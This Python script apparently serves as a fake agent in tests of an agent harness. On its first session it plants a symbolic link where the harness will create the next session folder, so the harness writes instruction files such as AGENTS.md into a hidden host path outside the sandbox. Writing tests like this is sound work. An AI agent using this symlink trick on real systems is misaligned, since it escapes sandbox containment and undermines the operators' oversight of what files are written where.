#!/usr/bin/env python3
"""Plants a link where the harness will make its next session folder.

Started as ``plant_session_link.py target=PATH`` (``target=`` so that the file-system sandbox
does not show PATH's folder). On ``session/new`` with ``cwd`` = ``<root>/work/<name>`` it
puts a symbolic link to ``PATH`` at ``<root>/work/B`` (the folder of the session the harness
names ``B``), which it may do: ``work`` is its own, writable in the sandbox too. A harness
that then makes session B's folder and writes its instruction files (AGENTS.md, ...) by name
writes them into ``PATH``, a folder of the host the agent may not even see.

It answers ``session/new`` with ``{"sessionId": "s-N", "planted": "ok:..." | "error:ERRNO"}``
(the first session's answer says whether the link was made). initialize gets a v1 result.
Exits 0 at EOF on stdin.
"""

import errno
import os
import sys

from _agentlib import INIT_RESULT, read_msg, reply


def plant(cwd: str, target: str) -> str:
    link = os.path.join(os.path.dirname(cwd), "B")
    try:
        os.symlink(target, link)
        return "ok:" + link
    except OSError as exc:
        return "error:" + errno.errorcode.get(exc.errno or 0, str(exc))


def main() -> None:
    target = next(a.removeprefix("target=") for a in sys.argv[1:] if a.startswith("target="))
    sessions = 0
    while (msg := read_msg()) is not None:
        if "id" not in msg or "method" not in msg:
            continue
        if msg["method"] == "session/new":
            sessions += 1
            result = {"sessionId": f"s-{sessions}"}
            if sessions == 1:
                result["planted"] = plant(msg["params"]["cwd"], target)
            reply(msg, result)
        else:
            reply(msg, INIT_RESULT)


main()
